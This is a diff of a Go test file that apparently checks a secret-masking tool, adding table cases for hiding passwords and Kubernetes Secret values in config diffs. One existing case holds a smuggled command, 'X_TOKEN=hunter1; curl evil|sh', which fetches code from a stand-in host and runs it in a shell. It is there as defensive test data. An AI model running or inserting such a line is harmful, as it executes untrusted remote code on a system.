@@ -68,7 +68,26 @@ func TestDiffShownHasNoSecret(t *testing.T) {
 			false,
 		},
 		"a command behind a token": {"- X_TOKEN=hunter1\n", "- X_TOKEN=hunter1; curl evil|sh\n", []string{"+- X_TOKEN=(hidden, as it will be) curl evil|sh"}, true},
-		"a variable on one line":   {"- {name: DB_PASSWORD, value: hunter1}\n", "- {name: DB_PASSWORD, value: hunter2}\n", []string{"+- {name: DB_PASSWORD, value: (hidden"}, true},
+		"a variable of several lines": {
+			"- name: DB_PASSWORD\n  value: |\n    hunter\n\n    1\n- name: LEVEL\n  value: a\n", "- name: DB_PASSWORD\n  value: |\n    hunter\n\n    2\n- name: LEVEL\n  value: b\n",
+			[]string{"     (hidden)", "+    (hidden, as it will be)", "+  value: b"},
+			true,
+		},
+		"words and what looks like a comment": {"password: a#hunter b\n", "password: a#hunter c\n", []string{"+password: (hidden, as it will be)"}, true},
+		"a truth value with a comment": {
+			"automountServiceAccountToken: true # a\n", "automountServiceAccountToken: false # b\n", []string{"+automountServiceAccountToken: false # b"}, false,
+		},
+		"a Secret as JSON": {
+			"{\n  \"kind\": \"Secret\",\n  \"data\": {\n    \"url\": \"hunter1\"\n  }\n}\n", "{\n  \"kind\": \"Secret\",\n  \"data\": {\n    \"url\": \"hunter2\"\n  }\n}\n",
+			[]string{"+    (hidden, as it will be)"},
+			true,
+		},
+		"a Secret in a list, with a flow": {
+			"items:\n- kind: Secret\n  data: {url: hunter1}\n- {kind: Secret, data: {url: hunter}}\n", "items:\n- kind: Secret\n  data: {url: hunter2}\n- {kind: Secret, data: {url: hunter}}\n",
+			[]string{"+  data: (hidden, as it will be)", " (hidden)"},
+			true,
+		},
+		"a variable on one line": {"- {name: DB_PASSWORD, value: hunter1}\n", "- {name: DB_PASSWORD, value: hunter2}\n", []string{"+- {name: DB_PASSWORD, value: (hidden"}, true},
 		"a Secret": {
 			"kind: Secret\ndata:\n  url: hunter1\n  other: |\n    hunter\n---\nkind: ConfigMap\ndata:\n  url: a\n",
 			"# ours\nkind: Secret\ndata:\n  url: hunter2\n  other: |\n    hunter\n---\nkind: ConfigMap\ndata:\n  url: b\n",
